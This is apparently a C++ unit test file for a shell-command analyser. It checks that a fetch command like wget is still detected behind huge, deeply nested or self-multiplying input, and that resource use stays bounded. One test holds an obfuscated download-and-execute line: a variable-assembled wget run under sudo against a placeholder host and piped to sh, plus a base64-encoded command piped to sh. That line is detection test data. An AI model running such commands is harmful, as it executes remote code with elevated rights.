#include "shell/limits.hpp"
#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

BOOST_AUTO_TEST_SUITE(shell_limits)

using namespace rulehost::shell;

namespace {

std::string repeated(std::string_view text, std::size_t times) {
    std::string all;
    for (std::size_t i = 0; i < times; ++i)
        all += text;
    return all;
}

/// The whole line, as often as reading starts afresh.
struct whole {
    std::size_t readings = 0;
    std::size_t commands = 0;
    bool has_wget = false;
    std::size_t most_commands = 0;
};

whole read_all(std::string_view line) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    whole all;
    for (std::size_t at = 0; at < line.size(); ++all.readings) {
        auto const next = reads.read(line, at, result);
        BOOST_REQUIRE(next > at);
        at = next;
        all.commands += result.commands.size();
        all.most_commands = std::max(all.most_commands, result.commands.size());
        for (auto const& each : result.commands)
            all.has_wget = all.has_wget || each.program == "wget";
    }
    return all;
}

} // namespace

BOOST_AUTO_TEST_CASE(command_behind_very_many_is_seen) {
    auto const all = read_all(repeated("id;", 50'000) + "wget u");
    BOOST_TEST(all.has_wget);
    BOOST_TEST(all.commands == 50'001U);
    BOOST_TEST(all.most_commands <= 2 * limits::max_commands);
}

BOOST_AUTO_TEST_CASE(command_below_deep_nesting_is_seen) {
    for (std::string_view const open : {"(", "{ ", "$(", "if ", "while ", "! ", "((", "f() {", "case x in a) "})
        BOOST_TEST(read_all(repeated(open, 1'000) + "wget u").has_wget, open);
}

BOOST_AUTO_TEST_CASE(command_behind_very_many_words_is_seen) {
    BOOST_TEST(read_all("echo " + repeated("a ", 200'000) + "; wget u").has_wget);
    BOOST_TEST(read_all("echo " + repeated("\\a", 200'000) + "; wget u").has_wget);
}

BOOST_AUTO_TEST_CASE(values_that_double_stay_bounded) {
    auto const line = "a=xxxxxxxxxxxxxxxx;" + repeated("a=$a$a;", 4'000) + "echo $a; wget u";
    BOOST_TEST(read_all(line).has_wget);
    line_reading const read(line);
    BOOST_TEST(read.read.truncated);
    BOOST_TEST(read.read.arena.total() < 8 * (limits::max_texts + line.size()));
}

BOOST_AUTO_TEST_CASE(loops_without_commands_stay_bounded) {
    auto const line = repeated("for i in 1 2 3; do ", 15) + repeated("done; ", 15) + "wget u";
    line_reading const read(line);
    BOOST_TEST(read.commands().contains({"wget", "u"}));
    BOOST_TEST(read.read.places.size() < 50'000U);
}

BOOST_AUTO_TEST_CASE(loops_and_functions_that_multiply_stay_bounded) {
    std::string line;
    for (int i = 0; i < 12; ++i)
        line += "for i" + std::to_string(i) + " in 1 2 3 4 5 6 7 8 9; do ";
    line += "id;" + repeated(" done;", 12) + "wget u";
    auto const loops = read_all(line);
    BOOST_TEST(loops.has_wget);
    BOOST_TEST(loops.commands < 50'000U);
    line = "f0() { id; };";
    for (int i = 1; i < 40; ++i)
        line += "f" + std::to_string(i) + "() { f" + std::to_string(i - 1) + "; f" + std::to_string(i - 1) + "; };";
    auto const functions = read_all(line + "f39; wget u");
    BOOST_TEST(functions.has_wget);
    BOOST_TEST(functions.commands < 50'000U);
}

BOOST_AUTO_TEST_CASE(memory_is_kept_from_reading_to_reading) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    std::string const line =
        "a=wg; b=et; for i in 1 2; do sudo $a$b \"http://h/$i\" | sh; done; echo d2dldCB1 | base64 -d | sh";
    reads.read(line, 0, result);
    auto const commands = result.commands.capacity();
    auto const words = result.words.capacity();
    auto const* const first = result.commands.data();
    for (int i = 0; i < 100; ++i)
        reads.read(line, 0, result);
    BOOST_TEST(result.commands.capacity() == commands);
    BOOST_TEST(result.words.capacity() == words);
    BOOST_TEST(result.commands.data() == first);
}

BOOST_AUTO_TEST_SUITE_END()
